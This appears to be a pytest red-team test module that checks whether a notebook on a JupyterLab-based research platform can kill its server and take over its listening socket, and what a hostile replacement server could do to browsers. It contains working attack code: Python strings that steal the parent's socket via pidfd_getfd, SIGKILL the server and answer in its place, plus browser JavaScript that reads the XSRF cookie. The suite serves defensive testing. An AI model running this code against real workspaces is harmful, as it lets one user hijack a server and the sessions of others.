"""The workspace's server replaced by hostile code: can it be done from inside, and what would it do to browsers?

The replacement is tried from a notebook first. Then a hostile server is put in the workspace's place from outside, the
worst case, and a real browser comes by through the real gateway. The control is the same server before a plain
JupyterLab.
"""

from __future__ import annotations

import gc
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, replace
from functools import cached_property
from pathlib import Path

import pytest
import requests
from e2e.conftest import free_port
from playwright.sync_api import Browser, Error
from websocket import WebSocketException

from hdh_jupyter.demo.people import OPEN_PROJECT
from hdh_jupyter.projects.model import Member, ProjectRole
from hdh_jupyter.routes import read_route

from .browser_pages import Lab, Watched, at_plain, at_platform, chromium, is_shown, until, watch
from .browser_sinks import Sink, sinking
from .clients import Kernel, Server
from .conftest import Machine
from .control import plain_jupyterlab
from .model import Outcome, Outcomes, Stands, attack
from .replaced_answers import REPLACED, Replaced
from .replaced_server import HostileServer, standing

pytestmark = pytest.mark.redteam

PROJECT = "remplace"
IDLE = 16
"""Seconds after which the gateway lets go of connections that it does not use."""

TAKEN = attack(
    901, "A notebook kills the server and answers in its place", Stands.NOTEBOOK, reference="lab_channels 0.1"
)
STOLEN = attack(902, "A notebook takes the server's listening socket", Stands.NOTEBOOK, reference="pidfd_getfd(2)")
HANDED = attack(
    903, "A notebook finds the listening socket among what it inherited", Stands.NOTEBOOK, reference="execve(2)"
)

TAKE = """
import ctypes, os, signal, socket, sys, time
def listeners():
    found = []
    for name in os.listdir('/proc/self/fd'):
        try:
            one = socket.socket(fileno=os.dup(int(name)))
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                found.append(one)
        except OSError:
            pass
    return found
def steal(server):
    libc, found, last = ctypes.CDLL(None, use_errno=True), [], ''
    for name in range(64):
        try:
            handle = os.pidfd_open(server)
        except OSError as error:
            return found, error.strerror
        copy = libc.syscall(438, handle, name, 0)
        if copy < 0:
            last = os.strerror(ctypes.get_errno()) if ctypes.get_errno() != 9 else last
            continue
        try:
            one = socket.socket(fileno=copy)
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                found.append(one)
        except OSError:
            pass
    return found, last
"""

KILL = """
inherited, (stolen, _) = listeners(), steal(os.getppid())
server, port = os.getppid(), PORT
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    os.kill(server, signal.SIGKILL)
    sockets = inherited + stolen
    for _ in range(100):
        try:
            sockets.append(socket.create_server(('127.0.0.1', port)))
            break
        except OSError:
            time.sleep(0.1)
    import select
    while sockets:
        ready, _, _ = select.select(sockets, [], [], 20)
        if not ready:
            break
        connection, _ = ready[0].accept()
        connection.recv(65536)
        head = b'HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: 11\\r\\n\\r\\n'
        connection.sendall(head + b'{"m901": 1}')
        connection.close()
    os._exit(0)
"""


def run_to_its_end(kernel: Kernel, code: str) -> None:
    """Run code that ends the server under it."""
    # The connection breaks, somehow: that is what the code is for.
    with suppress(OSError, ValueError, WebSocketException):
        kernel.run(code, 5)


def takes_over(server: Server) -> Outcome:
    port = server.base.partition("//")[2].partition(":")[2].partition("/")[0]
    kernel = server.json("POST", "api/kernels", {"name": "python3"})["id"]
    with Kernel(server, kernel) as connected:
        run_to_its_end(connected, TAKE + KILL.replace("PORT", port))
    server.session.close()
    deadline = time.monotonic() + 12
    status = "no answer"
    while time.monotonic() < deadline:
        try:
            reply = server.request("GET", "api/contents?content=0", timeout=3)
            status = str(reply.status_code)
            if "m901" in reply.text:
                server.session.close()
                return Outcome(True, "the notebook answers in the server's place")
        except requests.RequestException:
            pass
        time.sleep(0.5)
    server.session.close()
    return Outcome(False, f"the workspace is gone, {status}")


def steals(server: Server) -> Outcome:
    with server.kernel() as kernel:
        printed = kernel.run(TAKE + "found, why = steal(os.getppid())\nprint('found', len(found), why)")
    found, _, why = printed.removeprefix("found ").strip().partition(" ")
    return Outcome(printed.startswith("found") and found != "0", f"{found} sockets{', ' + why if why else ''}")


def inherits(server: Server) -> Outcome:
    with server.kernel() as kernel:
        printed = kernel.run(TAKE + "print('found', len(listeners()) - LISTENING)".replace("LISTENING", OWN_LISTENERS))
    return Outcome(printed.strip() != "found 0", printed.strip())


OWN_LISTENERS = """sum(
    one.family == socket.AF_INET and one.getsockname()[0] == '127.0.0.1' for one in listeners())"""
"""A kernel listens on ports of its own, for what it is told by its server."""


def expendable(machine: Machine, project: str) -> Server:
    """Return the workspace of a project of its own, which may be lost."""
    demonstrated = machine.registry.project(OPEN_PROJECT)
    member = (Member("alice", ProjectRole.RESEARCHER),)
    machine.registry.add_project(replace(demonstrated, id=project, title=f"Le projet {project}", members=member))
    return machine.enter("alice", project)


@pytest.fixture(scope="module")
def doomed(machine: Machine) -> Server:
    return expendable(machine, PROJECT)


@pytest.fixture(scope="module")
def doomed_plain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("doomed")
    with plain_jupyterlab(folder, free_port(), {}, folder) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@dataclass
class Replacement:
    """One side: a browser, and the hostile server before which it stands."""

    lab: Lab
    server: HostileServer

    @cached_property
    def shown(self) -> Watched:
        """A page of JupyterLab that was opened before anything hostile was answered."""
        answers, self.server.answers = self.server.answers, {}
        watched = self.lab.open("lab")
        self.server.answers = answers
        return watched


@pytest.fixture(scope="module")
def plain_replaced(browser: Browser, plain: Server, plain_folder: Path) -> Iterator[Replacement]:
    real, port = int(plain.base.rpartition(":")[2]), free_port()
    with standing(HostileServer("/", real), port) as server:
        public = Server(f"http://127.0.0.1:{port}", requests.Session(), plain.headers)
        yield Replacement(at_plain(browser, public, plain_folder / "home"), server)


@contextmanager
def moved(place: Path) -> Iterator[Path]:
    """Keep a socket under another name for as long as the block runs."""
    kept = place.with_name("real.sock")
    place.rename(kept)
    try:
        yield kept
    finally:
        place.unlink(missing_ok=True)
        kept.rename(place)


@pytest.fixture(scope="module")
def own_replaced(browser: Browser, machine: Machine, doomed: Server) -> Iterator[Replacement]:
    record = read_route(machine.folder.routes, PROJECT)
    assert record is not None
    lab = at_platform(browser, machine, doomed, "alice", PROJECT)
    place = Path(record.address)
    with moved(place) as real, standing(HostileServer(record.base_url, real), place) as server:
        time.sleep(IDLE)
        yield Replacement(lab, server)


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with sinking() as sink:
        yield sink


def found_by_visit(side: Replacement, one: Replaced, sink: Sink) -> set[str]:
    watched = watch(side.lab.context, side.lab.base)
    # What becomes a download is no page.
    with suppress(Error):
        watched.page.goto(f"{side.lab.base}{one.at}", wait_until="commit")
    found = watched.evidence(sink, 1)
    watched.page.close()
    return found | {str(cookie["name"]) for cookie in side.lab.context.cookies()}


FETCH = """async ([address, mark]) => {
  const xsrf = document.cookie.split('; ').find(c => c.startsWith('_xsrf='))?.slice(6) ?? '';
  localStorage.setItem('kept-' + mark, 1);
  try {
    await (await fetch(address, {headers: {'X-XSRFToken': decodeURIComponent(xsrf)}})).text();
  } catch (error) { console.log(String(error)); }
  await new Promise(done => setTimeout(done, 500));
  return localStorage.getItem('kept-' + mark) === null;
}"""


def found_by_fetch(side: Replacement, one: Replaced, sink: Sink) -> set[str]:
    watched = side.shown
    forgot = watched.frame.evaluate(FETCH, [f"{side.lab.path}{one.at}", one.mark])
    found = watched.evidence(sink, 1)
    found |= {str(cookie["name"]) for cookie in side.lab.context.cookies()}
    return found | ({one.mark} if forgot and "Clear-Site" in one.attack.title + str(one.reply("")) else set())


def found_in_lab(side: Replacement, one: Replaced, sink: Sink) -> set[str]:
    watched = watch(side.lab.context, side.lab.base)
    # Scripts that the browser kept from before would not be asked for.
    network = side.lab.context.new_cdp_session(watched.page)
    network.send("Network.enable")
    network.send("Network.setCacheDisabled", {"cacheDisabled": True})
    watched.page.goto(side.lab.address("lab"), wait_until="commit")
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and one.mark not in sink.marks():
        watched.page.wait_for_timeout(250)
        if is_shown(watched):
            # It is all there: what still comes, comes soon.
            deadline = min(deadline, time.monotonic() + 4)
    watched.page.close()
    return sink.marks()


USUAL = {"content-type", "content-length", "connection"}


def found_in_headers(side: Replacement, one: Replaced, _: Sink) -> set[str]:
    head = one.reply("").partition(b"\r\n\r\n")[0].decode().split("\r\n")[1:]
    sent = {line.partition(":")[0].lower() for line in head} - USUAL
    try:
        reply = side.lab.server.request("GET", one.at)
    except requests.RequestException:
        return set()
    return {one.mark} if sent & {name.lower() for name in reply.headers} else set()


def found_in_length(side: Replacement, one: Replaced, _: Sink) -> set[str]:
    received = 0
    try:
        with side.lab.server.request("GET", one.at, stream=True) as reply:
            received = sum(len(chunk) for chunk in reply.iter_content(65536))
    except requests.RequestException:
        pass
    return {one.mark} if received >= 80_000_000 else set()


def found_in_body(side: Replacement, one: Replaced, _: Sink) -> set[str]:
    with side.lab.server.request("GET", one.at, stream=True) as reply:
        content = reply.raw.read(decode_content=False)
    return {one.mark} if one.mark.encode() in content else set()


ASK = {
    "visit": found_by_visit,
    "fetch": found_by_fetch,
    "lab": found_in_lab,
    "header": found_in_headers,
    "length": found_in_length,
    "body": found_in_body,
}


def tried(side: Replacement, one: Replaced, sink: Sink) -> Outcome:
    side.server.answers = {one.path: one.reply(sink.origin(one.mark))}
    got = one.mark in ASK[one.ask](side, one, sink)
    side.server.answers = {}
    sink.hits.clear()
    return Outcome(got, "it works" if got else "no effect")


# The connections of a server that was killed are closed by nobody.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning", "ignore::ResourceWarning")
def test_taking_over(machine: Machine, doomed_plain: Server, outcomes: Outcomes) -> None:
    outcomes.judge(TAKEN, control=takes_over(doomed_plain), here=takes_over(expendable(machine, "abandonne")))
    gc.collect()


def test_the_hostile_server_is_asked(own_replaced: Replacement) -> None:
    own_replaced.server.asked.clear()
    assert own_replaced.lab.server.request("GET", "api/contents?content=0").status_code == 200
    assert "api/contents" in own_replaced.server.asked


@pytest.mark.parametrize("one", REPLACED, ids=lambda one: str(one.attack.number))
def test_replaced_server(
    one: Replaced, plain_replaced: Replacement, own_replaced: Replacement, sink: Sink, outcomes: Outcomes
) -> None:
    here = tried(own_replaced, one, sink)
    control = None if one.no_control else tried(plain_replaced, one, sink)
    outcomes.judge(one.attack, control=control, here=here, no_control=one.no_control)


def test_the_page_still_opens(own_replaced: Replacement) -> None:
    watched = own_replaced.lab.open("lab")
    until(watched, lambda: watched.frame.locator("#filebrowser").count() > 0, "JupyterLab does not open")
    watched.page.close()


def test_stealing_the_socket(workspace: Server, plain: Server, outcomes: Outcomes) -> None:
    outcomes.judge(STOLEN, control=steals(plain), here=steals(workspace))


def test_inheriting_the_socket(workspace: Server, outcomes: Outcomes) -> None:
    reason = "a plain server hands its socket on to nobody either"
    outcomes.judge(HANDED, control=None, here=inherits(workspace), no_control=reason)
